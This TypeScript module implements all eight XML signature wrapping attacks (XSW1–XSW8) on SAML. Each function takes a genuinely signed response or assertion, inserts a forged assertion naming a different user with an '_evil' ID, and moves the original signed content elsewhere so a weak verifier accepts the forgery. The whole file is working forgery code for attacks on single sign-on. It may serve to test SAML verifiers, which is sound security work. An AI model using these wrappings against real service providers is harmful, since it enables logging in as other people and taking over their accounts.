// The eight known shapes of signature wrapping (XSW1 to XSW8): what was signed stays in the document, and something else stands
// where the reader looks. Each takes an honest answer and gives one that speaks of somebody else.

export type Wrapping = (xml: string, speakOf: (part: string) => string) => string;

const part = (xml: string, name: string): string => {
  const found = new RegExp(`<((?:\\w+:)?${name})[\\s>][\\s\\S]*?</\\1>`).exec(xml)?.[0];
  if (found === undefined) throw new Error(`the answer has no ${name}`);
  return found;
};

const assertionOf = (xml: string): string => part(xml, 'Assertion');

/** The signature of an element: the first one inside it that is not inside its assertion. */
const signatureOf = (element: string): string => part(element, 'Signature');

const withoutSignature = (element: string): string => element.replace(signatureOf(element), '');

const renamed = (element: string): string => element.replace(/\bID="([^"]+)"/, 'ID="_evil$1"');

const into = (signature: string, content: string): string =>
  signature.replace(
    /<\/((?:\w+:)?)Signature>$/,
    (end) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>${end}`,
  );

/** A response that was signed as a whole; the signature comes before its status. */
const wrapResponse =
  (place: (signature: string, original: string) => string): Wrapping =>
  (xml, speakOf) => {
    const signature = signatureOf(xml);
    const original = xml.replace(signature, '');
    return renamed(speakOf(xml)).replace(speakOf(signature), () => place(signature, original));
  };

/** An assertion that was signed. */
const wrapAssertion =
  (write: (facts: { original: string; evil: string; signature: string; bare: string }) => string): Wrapping =>
  (xml, speakOf) => {
    const original = assertionOf(xml);
    const bare = withoutSignature(original);
    const evil = renamed(speakOf(bare));
    const written = write({ original, evil, signature: signatureOf(original), bare });
    return xml.replace(original, () => written);
  };

const afterIssuer = (assertion: string, content: string): string =>
  assertion.replace(/<\/((?:\w+:)?)Issuer>/, (end) => `${end}${content}`);

const beforeEnd = (element: string, content: string): string =>
  element.replace(/<\/(?:\w+:)?Assertion>$/, (end) => `${content}${end}`);

/** By number; the first two need an answer that is signed as a whole too. */
export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  XSW1: wrapResponse((signature, original) => into(signature, original)),
  XSW2: wrapResponse((signature, original) => `${original}${signature}`),
  XSW3: wrapAssertion(({ evil, original }) => `${evil}${original}`),
  XSW4: wrapAssertion(({ evil, original }) => beforeEnd(evil, original)),
  XSW5: wrapAssertion(({ evil, signature, bare }) => `${afterIssuer(evil, signature)}${bare}`),
  XSW6: wrapAssertion(({ evil, signature, bare }) => afterIssuer(evil, into(signature, bare))),
  XSW7: wrapAssertion(({ evil, original }) => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`),
  XSW8: wrapAssertion(({ evil, signature, bare }) =>
    afterIssuer(
      evil,
      signature.replace(
        /<\/((?:\w+:)?)SignatureValue>/,
        (end) => `${end}<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${bare}</ds:Object>`,
      ),
    ),
  ),
};
